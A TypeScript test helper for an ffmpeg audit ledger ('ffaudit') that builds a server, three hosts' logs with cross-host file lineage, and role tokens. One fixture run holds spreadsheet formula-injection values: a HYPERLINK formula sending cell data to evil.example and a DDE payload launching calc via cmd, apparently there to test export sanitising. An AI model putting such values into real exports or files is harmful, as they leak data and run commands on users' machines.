/**
 * TEST HELPER: a team server in this process (real PostgreSQL, the real app) holding three hosts' logs whose lineage
 * crosses them, pushed by the hosts' own push client, and one API token of each role.
 *
 *   ws-1 (edit workstation):  run r1 lavfi → /ws/a.mov (A)                  (alice)
 *   render-7 (render node):   run r2 /nfs/a.mov (A) → /render/b.mp4 (B)     (render, actor "farm")
 *   ingest-2 (ingest):        run r3 /in/b.mp4 (B) → /out/c.mp4 (C), then a custody note naming C (clerk);
 *                             run r4, failed, whose argv and user would be spreadsheet formulas
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Hono } from 'hono';
import type { EntryBase, FileRecord } from '../core/entry.js';
import { Ledger } from '../ledger/ledger.js';
import { pushLedger } from '../push/client.js';
import { joinServer } from '../push/join.js';
import { addToken, revokeToken } from '../server/api/auth.js';
import { createApp, type AppEnv, type ServerDeps } from '../server/app.js';
import { migrate, openDb, type Db } from '../server/db/pool.js';
import { addHost } from '../server/hosts.js';
import { initServerKeys, loadServerKeys } from '../server/keys.js';
import { createDatabase } from './pg-server.js';

export const sha = (s: string): string => createHash('sha256').update(s).digest('hex');
export const SHA = { A: sha('content A'), B: sha('content B'), C: sha('content C') };

const T0 = Date.parse('2026-12-01T10:00:00Z');
/** A time `min` minutes after the fixture's start, RFC 3339 with nanoseconds. */
export const at = (min: number): string => new Date(T0 + min * 60_000).toISOString().replace(/\.(\d{3})Z$/, '.$1000000Z');

const file = (path: string, sha256: string | null, size: number | null = 1000): FileRecord => ({ path, size, sha256 });

export interface RunSpec {
  id: string;
  user: string;
  host: string;
  actor?: string;
  argv: string[];
  inputs: FileRecord[];
  outputs: FileRecord[];
  startMin: number;
  status?: 'ok' | 'failed';
}

/** The two entries of a run as capture writes them (core/run.ts), the end naming the start's index. */
export function runEntries(r: RunSpec, startIndex: number): [EntryBase, EntryBase] {
  const by = { user: r.user, uid: 1000, host: r.host, ...(r.actor ? { asserted_actor: r.actor } : {}) };
  const start: EntryBase = {
    v: 1,
    type: 'run.start',
    time: at(r.startMin),
    by,
    ffaudit_version: '0.1.0',
    run: r.id,
    tool: 'ffmpeg',
    cwd: '/work',
    argv: r.argv,
    redactions: [],
    ffmpeg: { path: '/usr/bin/ffmpeg', version: '6.1', sha256: null },
    inputs: r.inputs,
  };
  const end: EntryBase = {
    v: 1,
    type: 'run.end',
    time: at(r.startMin + 1),
    by,
    ffaudit_version: '0.1.0',
    run: r.id,
    start: startIndex,
    status: r.status ?? 'ok',
    exit_code: r.status === 'failed' ? 1 : 0,
    signal: null,
    duration_ms: 60_000,
    inputs: r.inputs,
    outputs: r.outputs,
    streams: [],
    report_sha256: null,
    redactions: [],
  };
  return [start, end];
}

export function noteEntry(text: string, files: FileRecord[], min: number, user = 'clerk', host = 'ingest-2'): EntryBase {
  return { v: 1, type: 'custody.note', time: at(min), by: { user, uid: 1001, host }, ffaudit_version: '0.1.0', text, files };
}

/** Appends runs one after the other (each start, then its end) and returns their start indices. */
export function appendRuns(ledger: Ledger, runs: readonly RunSpec[]): number[] {
  const starts: number[] = [];
  for (const r of runs) {
    const i = ledger.size();
    ledger.append(runEntries(r, i));
    starts.push(i);
  }
  return starts;
}

export const RUNS = {
  r1: { id: 'a1'.repeat(16), user: 'alice', host: 'ws-1', argv: ['-f', 'lavfi', '-i', 'testsrc', '/ws/a.mov'], inputs: [file('testsrc', null, null)], outputs: [file('/ws/a.mov', SHA.A)], startMin: 0 },
  r2: { id: 'b2'.repeat(16), user: 'render', host: 'render-7', actor: 'farm', argv: ['-i', '/nfs/a.mov', '/render/b.mp4'], inputs: [file('/nfs/a.mov', SHA.A)], outputs: [file('/render/b.mp4', SHA.B)], startMin: 10 },
  r3: { id: 'c3'.repeat(16), user: 'ingest', host: 'ingest-2', argv: ['-i', '/in/b.mp4', '/out/c.mp4'], inputs: [file('/in/b.mp4', SHA.B)], outputs: [file('/out/c.mp4', SHA.C, 4242)], startMin: 20 },
  r4: {
    id: 'd4'.repeat(16),
    user: '=HYPERLINK("http://evil.example/?"&A1)',
    host: 'ingest-2',
    argv: ['-i', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+x.mp4'],
    inputs: [file('-2+3.mov', null, null)],
    outputs: [],
    startMin: 30,
    status: 'failed',
  },
} satisfies Record<string, RunSpec>;

export interface Host {
  name: string;
  origin: string;
  dir: string;
  ledger: Ledger;
}

export interface ApiWorld {
  db: Db;
  dbUrl: string;
  app: Hono<AppEnv>;
  keysDir: string;
  logLines: string[];
  hosts: Record<'ws' | 'render' | 'ingest', Host>;
  tokens: Record<'viewer' | 'auditor' | 'admin' | 'revoked', string>;
  /** The app as a fetch, for the hosts' push client. */
  fetch: typeof fetch;
  push(h: Host): Promise<void>;
  close(): Promise<void>;
}

/** `extra`: more of the server's dependencies (the web interface's access log, TLS) for the app under test. */
export async function apiWorld(adminUrl: string, extra: Partial<Pick<ServerDeps, 'access' | 'tls'>> = {}): Promise<ApiWorld> {
  const tmp = mkdtempSync(join(tmpdir(), 'ffaudit-api-'));
  const dbUrl = await createDatabase(adminUrl, 'api');
  const db = await openDb(dbUrl);
  await migrate(db);
  const keysDir = join(tmp, 'server-keys');
  initServerKeys(keysDir, 'audit.test');
  const logLines: string[] = [];
  const app = createApp({ db, keys: loadServerKeys(keysDir), log: (l) => void logLines.push(l), ...extra });
  const viaApp = ((input: string | URL | Request, init?: RequestInit) => app.request(input instanceof Request ? input : String(input), init)) as typeof fetch;
  const make = (name: string, origin: string): Host => {
    const dir = join(tmp, name);
    return { name, origin, dir, ledger: Ledger.init(dir, { origin }) };
  };
  const hosts = { ws: make('ws-1', 'ws-1.test/ffaudit'), render: make('render-7', 'render-7.test/ffaudit'), ingest: make('ingest-2', 'ingest-2.test/ffaudit') };
  for (const h of Object.values(hosts)) {
    const { token } = await addHost(db, h.name);
    await joinServer(h.ledger, 'http://server.test', token, { fetch: viaApp });
  }
  appendRuns(hosts.ws.ledger, [RUNS.r1]);
  appendRuns(hosts.render.ledger, [RUNS.r2]);
  appendRuns(hosts.ingest.ledger, [RUNS.r3]);
  hosts.ingest.ledger.append([noteEntry('received from render-7, checked', [file('/out/c.mp4', SHA.C, 4242)], 25)]);
  appendRuns(hosts.ingest.ledger, [RUNS.r4]);
  const push = async (h: Host) => {
    const r = await pushLedger(h.ledger, { fetch: viaApp, retries: 0 });
    if (r.stopped) throw new Error(`push of ${h.name} stopped: ${r.stopped}`);
  };
  for (const h of Object.values(hosts)) await push(h);
  const tokens = {
    viewer: (await addToken(db, 'viewer', 'viewer')).token,
    auditor: (await addToken(db, 'auditor', 'auditor')).token,
    admin: (await addToken(db, 'admin', 'admin')).token,
    revoked: '',
  };
  const r = await addToken(db, 'revoked', 'admin');
  await revokeToken(db, r.id);
  tokens.revoked = r.token;
  return {
    db,
    dbUrl,
    app,
    keysDir,
    logLines,
    hosts,
    tokens,
    fetch: viaApp,
    push,
    async close() {
      for (const h of Object.values(hosts)) h.ledger.close();
      await db.close();
      rmSync(tmp, { recursive: true, force: true });
    },
  };
}
